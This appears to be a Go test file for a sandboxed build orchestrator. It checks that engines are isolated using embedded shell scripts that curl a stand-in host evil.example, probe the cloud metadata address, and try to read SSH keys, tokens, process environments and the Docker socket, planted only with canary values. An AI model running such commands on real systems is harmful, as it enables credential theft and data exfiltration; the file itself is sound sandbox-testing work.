package flight

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cabincrew/action/engines/sandbox"
	"github.com/cabincrew/action/orchestrator"
)

// alone runs the program as a process of its own, with JSON output. A process reads
// which authorities the machine trusts only once, so tests that bring their own need one.
func (w *ws) alone(args ...string) result {
	w.t.Helper()
	cmd := w.proc(append(args, "--output", "json")...)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	var failed *exec.ExitError
	if err != nil && !errors.As(err, &failed) {
		w.t.Fatal(err)
	}
	return result{cmd.ProcessState.ExitCode(), out.String(), errs.String()}
}

// ends runs the program alone and demands an exit code.
func (w *ws) ends(code int, args ...string) (orchestrator.Summary, result) {
	w.t.Helper()
	r := w.alone(args...)
	if r.code != code {
		w.t.Fatalf("cabincrew %s: exit %d, want %d\nstdout: %s\nstderr: %s", strings.Join(args, " "), r.code, code, r.stdout, r.stderr)
	}
	return r.summary(w.t), r
}

// with gives the same workspace with more in the environment.
func (w *ws) with(env ...string) *ws {
	c := *w
	c.env = append(slices.Clip(w.env), env...)
	return &c
}

// asked is what a server was asked, in order.
type asked struct {
	mu   sync.Mutex
	list []received
}

type received struct {
	line, body string
	header     http.Header
}

func (a *asked) all() []received {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.list)
}

func (a *asked) lines() []string {
	var out []string
	for _, g := range a.all() {
		out = append(out, g.line)
	}
	return out
}

// loopback is where the hosts of most tests are.
const loopback = "127.0.0.1"

// ownAddress is an address of this machine that is not loopback: to loopback, Go's
// own rules for proxies let no client go through one, not even where no other way
// leads out of the sandbox.
func ownAddress(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Skip("the addresses of this machine cannot be listed:", err)
	}
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() && !n.IP.IsLinkLocalUnicast() {
			return n.IP.String()
		}
	}
	t.Skip("this test needs an IPv4 address that is not loopback, and this machine has none")
	return ""
}

// certificate makes a certificate for an address.
func certificate(t *testing.T, address string) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	c := &x509.Certificate{
		SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.ParseIP(address)},
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, c, c, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// tlsServer is a host at an address of this machine, with a certificate that only
// its test trusts.
func tlsServer(t *testing.T, address string, answer http.HandlerFunc) (s *httptest.Server, host string, seen *asked) {
	t.Helper()
	seen = &asked{}
	s = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			t.Errorf("reading what was sent: %v", err)
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		seen.mu.Lock()
		seen.list = append(seen.list, received{r.Method + " " + r.URL.String(), string(body), r.Header.Clone()})
		seen.mu.Unlock()
		answer(w, r)
	}))
	listener, err := net.Listen("tcp", net.JoinHostPort(address, "0"))
	if err != nil {
		t.Skip("no server can listen here:", err)
	}
	_ = s.Listener.Close() // nobody was told of it
	s.Listener, s.TLS = listener, &tls.Config{Certificates: []tls.Certificate{certificate(t, address)}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	return s, strings.TrimPrefix(s.URL, "https://"), seen
}

// trusts gives the workspace a machine that trusts the server's certificate.
func (w *ws) trusts(s *httptest.Server) {
	w.t.Helper()
	name := filepath.Join(w.t.TempDir(), "roots.pem")
	if err := os.WriteFile(name, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}), 0o600); err != nil {
		w.t.Fatal(err)
	}
	w.env = append(w.env, "SSL_CERT_FILE="+name)
}

// curled skips a test whose engine asks with curl, where it is not.
func curled(t *testing.T) {
	t.Helper()
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("the engine of this test asks with curl, which is not here:", err)
	}
}

// asking is an engine that asks all that HOST and others would tell, if it is told
// to be EVIL, and else what it may.
const asking = `ask() { echo "$1: $(shift; curl -sS -m 20 -w ' %{http_code}' "$@" 2>&1 | tr '\n' ' ')"; }
asks() {
  ask get "https://$HOST/a?b=1"
  ask head -I "https://$HOST/head"
  [ -n "$EVIL" ] || return 0
  ask post -d x "https://$HOST/post"
  ask delete -X DELETE "https://$HOST/delete"
  ask body -X GET -d x "https://$HOST/body"
  ask other "https://evil.example/?data=1"
  ask plain "http://evil.example/?data=2"
  ask metadata http://169.254.169.254/latest/meta-data/
  ask redirect -L "https://$HOST/redirect"
  ask tunnel --proxytunnel "http://$HOST/tunnel"
  ask strange --cacert /etc/ssl/certs/ca-certificates.crt "https://$HOST/strange"
  ask direct --noproxy '*' "https://$HOST/direct"
  ask name --noproxy '*' http://evil.example/
  echo "dns: $(getent ahosts evil.example || echo none) $(cat /etc/resolv.conf /etc/hosts 2>/dev/null)$(ls /run 2>/dev/null)"
  bash -c 'echo gram > /dev/udp/127.0.0.1/'"$UDP" || echo 'udp: none'
}
[ "$CABINCREW_MODE" = flight-plan ] || { receipt ''; exit 0; }
art seen "$(asks 2>&1)"; art ca "$(sha256sum < "$SSL_CERT_FILE")"; receipt "$(decl seen),$(decl ca)"`

const asksPolicy = `package cabincrew.net

deny contains sprintf("the engine asked for %s", [r.url]) if {
	some r in input.isolation.requests
	contains(r.url, "evil")
}

warn contains sprintf("%s %s %v", [r.method, r.url, r.allowed]) if some r in input.isolation.requests
`

// TestNetworkWhilePlanning lets an engine read from the host that its step lists,
// and do nothing else; all that it asked is evidence, and judged.
func TestNetworkWhilePlanning(t *testing.T) {
	t.Parallel()
	isolates(t)
	curled(t)
	server, host, seen := tlsServer(t, loopback, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "https://evil.example/moved", http.StatusFound)
			return
		}
		_, _ = io.WriteString(w, "answer")
	})
	udp, err := net.ListenPacket("udp", loopback+":0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = udp.Close() }() // only read
	_, port, _ := net.SplitHostPort(udp.LocalAddr().String())
	w := newWS(t, map[string]string{
		"hello.txt": "hello\n", "engine.sh": shellEngine(asking), "pol/net.rego": asksPolicy,
		".cabincrew.yaml": config(quiet, "  - id: work\n    engine: {run: [./engine.sh]}\n    inputs: [hello.txt]\n    hosts: ['"+host+"']\n"+
			"    env: {HOST: 'env:HOST', UDP: 'env:UDP', EVIL: 'env:EVIL'}\n"),
	})
	w.trusts(server)
	w.env = append(w.env, "HOST="+host, "UDP="+port)

	s, _ := w.with("EVIL=yes").ends(3, "flight-plan")
	said := holds(t, s, "work", "seen")
	for _, want := range []string{
		"get: answer 200\n", "HTTP/1.1 200 OK", "post: cabincrew: the network request did not go through: method_not_allowed", "delete: cabincrew: the network request did not go through: method_not_allowed",
		"body: cabincrew: the network request did not go through: body_not_allowed", "other: curl: (56)", "plain: cabincrew: the network request did not go through: host_not_listed",
		"metadata: cabincrew: the network request did not go through: host_not_listed", "redirect: curl: (56)", "tunnel: ", "strange: curl: (60)", "direct: curl: (7)", "name: curl: (6)", "dns: none 127.0.0.1 localhost\n", "udp: none",
	} {
		if !strings.Contains(said, want) {
			t.Errorf("the engine got\n%s\nwithout %q", said, want)
		}
	}
	if got := seen.lines(); !slices.Equal(got, []string{"GET /a?b=1", "HEAD /head", "GET /redirect"}) {
		t.Errorf("the host was asked %q", got)
	}
	if err := udp.SetReadDeadline(time.Now().Add(20 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	if n, from, err := udp.ReadFrom(make([]byte, 10)); err == nil {
		t.Errorf("a datagram of %d bytes came from %v", n, from)
	}
	want := []string{
		"GET https://HOST/a?b=1 200", "HEAD https://HOST/head 200", "POST https://HOST/post method_not_allowed 403", "DELETE https://HOST/delete method_not_allowed 403",
		"GET https://HOST/body body_not_allowed 403", "CONNECT evil.example:443 host_not_listed 403", "GET http://evil.example/?data=2 host_not_listed 403",
		"GET http://169.254.169.254/latest/meta-data/ host_not_listed 403", "GET https://HOST/redirect 302", "CONNECT evil.example:443 redirect_not_listed 403",
		"CONNECT HOST opaque_connect 403", "CONNECT HOST tls_client 0",
	}
	if got := w.requests(s, host); !slices.Equal(got, want) {
		t.Errorf("the flight keeps\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	timeline := w.want(0, "audit", "show", s.WorkflowID).stdout
	for _, r := range held(t, s, "work").Requests {
		if n := strings.Count(timeline, " "+r.Method+" "+r.URL); n == 0 {
			t.Errorf("%s %s is not in the timeline:\n%s", r.Method, r.URL, timeline)
		}
	}
	if s.Error == nil || s.Error.Code != "policy_denied" || !strings.Contains(s.Error.Message, "evil.example") {
		t.Errorf("%+v", s.Error)
	}
	if n := len(s.Steps[0].Evaluations); n < len(want) {
		t.Errorf("the policies saw %d of %d requests: %+v", n, len(want), s.Steps[0].Evaluations)
	}

	tame := w.with("EVIL=")
	second, _ := tame.ends(0, "flight-plan")
	if a, b := holds(t, s, "work", "ca"), holds(t, second, "work", "ca"); len(a) < 64 || a == b {
		t.Errorf("the authorities of two runs are %s and %s", a, b)
	}
	if got := w.requests(second, host); !slices.Equal(got, want[:2]) {
		t.Errorf("the flight keeps %q", got)
	}
	tame.ends(0, "take-off", second.WorkflowID)
	w.want(0, "verify", second.WorkflowID)
}

// requests gives what a step asked of the network, as the flight keeps it.
func (w *ws) requests(s orchestrator.Summary, host string) []string {
	w.t.Helper()
	var out []string
	for _, r := range held(w.t, s, "work").Requests {
		if r.Allowed != (r.Reason == "") {
			w.t.Errorf("%+v", r)
		}
		line := fmt.Sprintln(r.Method, r.URL, r.Reason, r.Status)
		out = append(out, strings.ReplaceAll(strings.Join(strings.Fields(line), " "), host, "HOST"))
	}
	return out
}

// TestNoHostsNoNetwork gives a step without hosts nothing to ask with.
func TestNoHostsNoNetwork(t *testing.T) {
	t.Parallel()
	isolates(t)
	curled(t)
	server, host, seen := tlsServer(t, loopback, func(http.ResponseWriter, *http.Request) {})
	script := `look() {
env | grep -i -e proxy -e cert -e CA_ || echo no proxy
grep -c : /proc/net/dev; tail -n +2 /proc/net/route
for u in "https://$HOST/" http://127.0.0.1:3128/ http://evil.example/; do curl -k -sS -m 10 "$u" 2>&1 || :; done
}
[ "$CABINCREW_MODE" = flight-plan ] && { art seen "$(look)"; receipt "$(decl seen)"; } || { look > seen.txt; receipt ''; }`
	w := engineWS(t, script, "    env: {HOST: '"+host+"'}\n")
	w.trusts(server)
	s, _ := w.ends(0, "flight-plan")
	w.ends(0, "take-off", s.WorkflowID)
	for mode, said := range map[string]string{"flight-plan": holds(t, s, "work", "seen"), "take-off": w.read("seen.txt")} {
		if !strings.HasPrefix(said, "no proxy\n1\ncurl: (7)") || strings.Count(said, "curl: (7)") != 2 || !strings.Contains(said, "curl: (6)") {
			t.Errorf("in %s the engine saw\n%s", mode, said)
		}
	}
	if i := held(t, s, "work"); !i.NetNS || len(i.Requests) != 0 || len(seen.all()) != 0 {
		t.Errorf("%+v, the host was asked %q", i, seen.lines())
	}
}

// TestPolicyDemandsTier lets policies decide over how an engine was held.
func TestPolicyDemandsTier(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		step, code string
		exit       int
	}{
		"none": {bare, "isolation_denied", 3}, // its engine is not started at all
		"auto": {"", "policy_denied", map[bool]int{false: 3}[machine().Isolation.Tier == sandbox.TierA]},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := engineWS(t, `receipt ''`, c.step)
			w.write("pol/tier.rego", "package cabincrew.tier\n\ndeny contains sprintf(\"tier A is demanded, this is %s without %v\", [input.isolation.tier, input.isolation.missing]) if input.isolation.tier != \"A\"\n")
			s := w.json(c.exit, "flight-plan")
			if c.exit == 0 {
				w.json(0, "take-off", s.WorkflowID)
				return
			}
			if s.Error == nil || s.Error.Code != c.code || !strings.Contains(s.Error.Message, "tier A is demanded, this is") {
				t.Errorf("%+v", s.Error)
			}
			w.want(3, "take-off", s.WorkflowID)
		})
	}
}

// spying is an engine that looks for what is not its own: keys, tokens, other
// flights, the orchestrator, sockets. It tells what it finds.
const spying = `find() { tr '\000' '\n' 2>/dev/null | grep -ao 'canary[-][a-z]*' || :; }
look() {
  set +e
  for root in "" /proc/1/root /proc/self/root/.. "/proc/$PPID/root" "/proc/$PPID/cwd"; do
    cat "$root$SSH"/id "$root$REAL"/other.txt "$root$REAL"/../*/.ssh/id | find
    grep -rh canary "$root$REAL"/.cabincrew | find
  done
  ln -s "$SSH/id" "$TMPDIR/way"; cat "$TMPDIR/way" | find
  ln "$SSH/id" "$TMPDIR/hard"; cat "$TMPDIR/hard" | find
  env | find
  # The parent is what holds the engine; above it is the orchestrator.
  if [ "$HELD" = yes ]; then set -- /proc/[0-9]*; else set -- "/proc/$PPID" "/proc/$(sed -n 's/^PPid:\s*//p' "/proc/$PPID/status")"; fi
  for p in "$@"; do
    cat "$p/environ" "$p/cmdline" | find
    for fd in "$p"/fd/[0-9]*; do [ ! -f "$fd" ] || cat "$fd" | find; done
  done
  for sock in "$SOCKET" /var/run/docker.sock /run/docker.sock; do curl -s -m 10 --unix-socket "$sock" http://docker/v1.40/containers/json | find; done
  echo looked
}
if [ "$CABINCREW_MODE" = flight-plan ]; then art seen "$(look 2>/dev/null | sort -u)"; receipt "$(decl seen)"; else look 2>/dev/null | sort -u > seen.txt; receipt ''; fi`

// TestSpy flies an engine that looks for secrets, isolated and, so that it is known
// to look in the right places, not isolated.
func TestSpy(t *testing.T) {
	t.Parallel()
	curled(t)
	all := "canary-environ\ncanary-flight\ncanary-key\ncanary-other\ncanary-socket\ncanary-workspace\nlooked"
	for name, c := range map[string]struct{ step, want string }{"tier A": {"", "looked"}, "tier C": {bare, all}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if c.step == "" {
				isolates(t)
			}
			socket, connections := docker(t)
			first := "  - id: first\n    engine: {run: [./first.sh]}\n    inputs: [hello.txt]\n    env: {WHAT: canary-flight}\n" + c.step
			w := newWS(t, map[string]string{
				"hello.txt": "hello\n", "other.txt": "canary-workspace\n", "pol/p.rego": quietPolicy, "engine.sh": shellEngine(spying),
				"first.sh":        shellEngine(`[ "$CABINCREW_MODE" = take-off ] && { receipt ''; exit 0; }; art a "$WHAT"; receipt "$(decl a)"`),
				".cabincrew.yaml": config(quiet, strings.Replace(first, "canary-flight", "canary-other", 1)),
			})
			w.json(0, "flight-plan") // the other flight
			home := t.TempDir()
			if err := os.Mkdir(filepath.Join(home, ".ssh"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(home, ".ssh", "id"), []byte("canary-key\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			w.env = append(w.env, "HOME="+home, "GITHUB_TOKEN=canary-environ", "SSH="+filepath.Join(home, ".ssh"), "REAL="+w.dir, "SOCKET="+socket)
			// The script's own copies of the word are none of the finds.
			w.write(".cabincrew.yaml", config(quiet, first, "  - id: spy\n    engine: {run: [./engine.sh]}\n    inputs: [hello.txt]\n"+
				"    env: {SSH: 'env:SSH', REAL: 'env:REAL', SOCKET: 'env:SOCKET', HELD: '"+map[bool]string{true: "yes", false: "no"}[c.step == ""]+"'}\n    timeout: 60s\n"+c.step))
			s, _ := w.ends(0, "flight-plan", "--jobs", "1")
			if got := holds(t, s, "spy", "seen"); got != c.want {
				t.Errorf("in flight-plan it found %q, want %q", got, c.want)
			}
			w.ends(0, "take-off", s.WorkflowID)
			if got := strings.TrimSpace(w.read("seen.txt")); got != c.want {
				t.Errorf("in take-off it found %q, want %q", got, c.want)
			}
			if n := connections(); (n > 0) != (c.step == bare) {
				t.Errorf("the socket had %d connections", n)
			}
		})
	}
}

// docker is a socket such as that of a daemon which can do everything.
func docker(t *testing.T) (socket string, connections func() int64) {
	t.Helper()
	socket = filepath.Join(t.TempDir(), "docker.sock")
	l, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	var n atomic.Int64
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		n.Add(1)
		_, _ = io.WriteString(w, "canary-socket")
	}))
	_ = s.Listener.Close() // nobody was told of it
	s.Listener = l
	s.Start()
	t.Cleanup(s.Close)
	return socket, n.Load
}
